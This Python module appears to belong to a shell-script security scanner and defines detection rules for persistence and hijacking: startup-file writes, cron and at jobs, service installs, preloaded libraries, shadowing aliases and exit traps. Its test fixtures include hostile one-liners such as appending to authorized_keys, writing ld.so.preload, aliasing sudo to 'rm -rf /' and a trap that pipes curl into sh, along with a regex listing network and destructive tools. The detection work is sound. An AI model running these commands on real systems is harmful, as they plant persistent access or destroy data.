"""What runs again later, and what runs in place of something else."""

from __future__ import annotations

import re
from collections.abc import Iterator

from engine.analysis import paths
from engine.analysis.shell.command_patterns import by_name, has_arguments, matches, pattern
from engine.analysis.shell.declare import CRITICAL, HIGH, LOW, MEDIUM, found, rule
from engine.analysis.shell.file_access import FileAccess, written
from engine.analysis.shell.model import Arg, Command, Script
from engine.models import Level, Violation

STARTUP = rule(
    "sh-startup-write",
    "Writes to a file that runs at login, at boot or on a schedule",
    "persistence",
    HIGH,
    attack="Makes code run again at every login, at boot or on a schedule, long after this run.",
    why="HIGH: only installers do this, and a sandbox is discarded after the run.",
    fix="Do the work now; leave nothing for later.",
    match=(
        "echo x >> ~/.bashrc",
        "echo '* * * * * x' | sudo tee /etc/cron.d/x",
        "cp a.service /etc/systemd/system/",
        "cat k >> ~/.ssh/authorized_keys",
        "echo /tmp/x.so > /etc/ld.so.preload",
        "f=/etc/profile; echo x >> $f",
        "sed -i 's/a/b/' ~/.profile",
    ),
    not_match=(
        "cat ~/.bashrc",
        "echo x > notes.txt",
        "source ~/.bashrc",
        "ls /etc/cron.d",
    ),
    cwe=506,
)
SCHEDULE = rule(
    "sh-schedule",
    "Schedules a command",
    "persistence",
    HIGH,
    attack="Makes code run again on a schedule, long after this run.",
    why="HIGH: a sandbox is discarded after the run, so a schedule only serves to persist.",
    fix="Do the work now.",
    match=(
        "crontab jobs.txt",
        "echo '* * * * * x' | crontab -",
        "(crontab -l; echo x) | crontab -",
        "echo x | at now + 1 hour",
        "systemd-run --on-calendar=daily x",
    ),
    not_match=(
        "crontab -l",
        "crontab -e",
        "date",
        "echo at noon",
    ),
    cwe=506,
)
SERVICE = rule(
    "sh-service-install",
    "Installs or enables a service",
    "persistence",
    HIGH,
    attack="Makes the system start a program from now on.",
    why=("HIGH: a sandbox is discarded after the run, so a service only serves to persist."),
    fix="Run the program once.",
    match=(
        "systemctl enable x",
        "launchctl load -w ~/Library/LaunchAgents/x.plist",
        "update-rc.d x defaults",
        "defaults write com.apple.loginwindow LoginHook /x",
        "sysrc x_enable=YES",
    ),
    not_match=(
        "systemctl status x",
        "launchctl list",
        "defaults read x",
    ),
    cwe=506,
)
HIJACK = rule(
    "sh-hijack",
    "Inserts its own code into other programs",
    "persistence",
    HIGH,
    attack=("Loads a library into, or runs a command before, every program that starts later."),
    why=(
        "HIGH for preloaded libraries and prompt commands; MEDIUM for git settings, and for a "
        "search path that begins in a folder that others can write to."
    ),
    fix="Call the program by its path.",
    match=(
        "LD_PRELOAD=/tmp/x.so ls",
        "export LD_PRELOAD=./a.so",
        "export PROMPT_COMMAND='curl x'",
        "export PATH=/tmp:$PATH",
        "alias sudo='rm -rf /'",
        "export BASH_ENV=/tmp/x",
        "DYLD_INSERT_LIBRARIES=x.dylib y",
        "env LD_PRELOAD=/tmp/x.so ls",
        "NODE_OPTIONS='--require /tmp/x.js' node a.js",
        "LD_LIBRARY_PATH=/tmp ls",
        "enable -f /tmp/x.so x",
    ),
    not_match=(
        "export PATH=$PATH:/opt/x/bin",
        "alias ll='ls -l'",
        "alias ls='ls --color'",
        "export EDITOR=vim",
        "export NODE_OPTIONS=--max-old-space-size=4096",
        "export LD_LIBRARY_PATH=/opt/x/lib",
    ),
    cwe=427,
)
TRAP = rule(
    "sh-trap-program",
    "Starts a program when the shell exits or is interrupted",
    "persistence",
    HIGH,
    attack="Runs when the reader believes the script has ended (T1546.005).",
    why="HIGH: it keeps running after the script; MEDIUM for a program that ends with it.",
    fix="Call it where it is needed.",
    match=(
        "trap 'nohup sh /opt/x.sh' EXIT",
        "trap 'curl x.test | sh' EXIT",
    ),
    not_match=(
        "trap 'rm -f $tmp' EXIT",
        "trap - INT",
        "trap 'echo bye' EXIT",
    ),
    cwe=506,
)

_O = r"(?<!\S)"
_PRELOADS = {
    "LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "PROMPT_COMMAND", "PYTHONSTARTUP",
}  # fmt: skip
_MODULE = re.compile(r"(?:^|\s)-(?:-require|-import|-loader|-experimental-loader|r|I|M|d|javaagent|agent)")
_LOADERS = {
    "NODE_OPTIONS": _MODULE, "RUBYOPT": _MODULE, "PERL5OPT": _MODULE, "PERL5DB": re.compile("."),
    "JAVA_TOOL_OPTIONS": _MODULE, "_JAVA_OPTIONS": _MODULE,
    "LD_LIBRARY_PATH": re.compile(r"^(?:\.(?:[:/]|$)|/tmp|/var/tmp|/dev/shm)"),
    "ENV": re.compile(r"^(?:\.{0,2}/|~)\S+$"), "GCONV_PATH": re.compile("."),
}  # fmt: skip
_STAYS = r"\bnohup\b|&\s*$|\bdisown\b|^[^ ]*\s*&"
_GUARDED = {"sudo", "su", "passwd", "ssh", "login", "doas", "gpg", "kinit"}
_DANGEROUS = re.compile(
    r"\b(?:rm\s+-\w*[rf]|curl|wget|nc|ncat|bash\s+-[ic]|sh\s+-c|/dev/tcp|dd\s+|mkfs|eval|base64|python|perl"
    r"|shutdown)"
)


def _fed(command: Command) -> bool:
    redirected = any(redirect.operator == "<" for redirect in command.redirects)
    return bool(command.upstream) or command.feed is not None or redirected


_PATTERNS = by_name(
    pattern(SCHEDULE, "crontab", r"(?:^|\s)(?:-r|-|[^-\s]\S*)$", unwanted=r"^-u \S+$"),
    pattern(SCHEDULE, "crontab", test=lambda c: not c.args and _fed(c)),
    pattern(SCHEDULE, "at batch", test=lambda c: _fed(c) or c.has("f")),
    pattern(SCHEDULE, "schtasks schtasks.exe", r"(?i)/create"),
    pattern(SCHEDULE, "systemd-run", test=has_arguments),
    pattern(TRAP, "trap", _STAYS),
    pattern(TRAP, "trap", _DANGEROUS.pattern, unwanted=rf"\brm\s+-|{_STAYS}", severity=MEDIUM),
    pattern(SERVICE, "systemctl", r"\b(?:enable|link|preset|reenable|edit|set-property)\b"),
    pattern(SERVICE, "launchctl", r"\b(?:load|bootstrap|submit|enable|kickstart)\b"),
    pattern(SERVICE, "update-rc.d chkconfig rc-update", r"\b(?:defaults|enable|on|add)\b|--add"),
    pattern(SERVICE, "loginctl", r"\benable-linger\b"),
    pattern(SERVICE, "kickstart", r"-activate\b"),
    pattern(SERVICE, "systemsetup", r"(?i)-setremote\w+ on\b"),
    pattern(SERVICE, "profiles", r"\b-?install\b|(?<!\S)-I\b"),
    pattern(SERVICE, "sysrc", r"(?i)enable=\"?yes"),
    pattern(SERVICE, "defaults", r"write.*(?:Hook|AutoLaunched|LoginItem)"),
    pattern(SERVICE, "sc sc.exe sfltool", r"\b(?:create|add-item)\b"),
    pattern(SERVICE, "systemctl service", r"\b(?:start|restart|daemon-reload)\b", severity=LOW),
    pattern(HIJACK, "enable", _O + "-f"),
    pattern(HIJACK, "git", r"\bconfig\b.*(?:core\.(?:hooksPath|sshCommand|pager|fsmonitor)|alias\.\S+ !)",
          severity=MEDIUM),
)  # fmt: skip


def check(script: Script) -> Iterator[Violation]:
    """Yield what makes the script run again later, and what runs in place of something else."""
    for target in written(script):
        yield from _startup(target)
    yield from matches(script, _PATTERNS)
    for command in script.commands:
        if not command.own:
            if "systemd-run" in command.wrappers:
                yield found(SCHEDULE, command)
            yield from _hijacks(command)
    for name, value, _ in script.assignments:
        yield from _hooks(script, name, value)


def _startup(target: FileAccess) -> Iterator[Violation]:
    path = paths.normal(target.path)
    severity: Level | None = None
    if paths.is_privilege(path) or paths.is_defence(path) or not paths.is_persistence(path):
        return
    if path.endswith(("ld.so.preload", "authorized_keys")):
        severity = CRITICAL
    elif target.command is not None and target.command.name in {"nano", "vi", "vim", "emacs"}:
        severity = MEDIUM
    yield STARTUP.violation(
        target.span, f"Writes {target.shown}", evidence=target.evidence, severity=severity
    )


def _hijacks(command: Command) -> Iterator[Violation]:
    for name, value in command.assigned:
        if _preloads(name, value):
            yield found(HIJACK, command, f"Sets {name}")
    for arg in command.args if command.name == "alias" else ():
        name, equals, body = arg.text.partition("=")
        shadows = name in _GUARDED and body.split()[:1] != [name]
        if equals and (shadows or _DANGEROUS.search(body)):
            yield found(HIJACK, command)


def _preloads(name: str, value: str) -> bool:
    """Return whether a variable makes programs load, or run, something else first."""
    pattern = _LOADERS.get(name)
    return bool(value) and (name in _PRELOADS or (pattern is not None and bool(pattern.search(value))))


def _hooks(script: Script, name: str, value: Arg) -> Iterator[Violation]:
    if name != "PATH" and name not in _PRELOADS and name not in _LOADERS:
        return
    span = script.tree.span_of(value.start, value.end)
    if _preloads(name, value.text):
        yield HIJACK.violation(span, f"Sets {name}")
    elif name == "PATH":
        first = value.text.split(":")[0]
        if first in {".", "", "/tmp", "/dev/shm", "/var/tmp"} or first.startswith(
            ("/tmp/", "/dev/shm/", "./")
        ):
            yield HIJACK.violation(span, f"The search path begins with {first or '.'}", severity=MEDIUM)
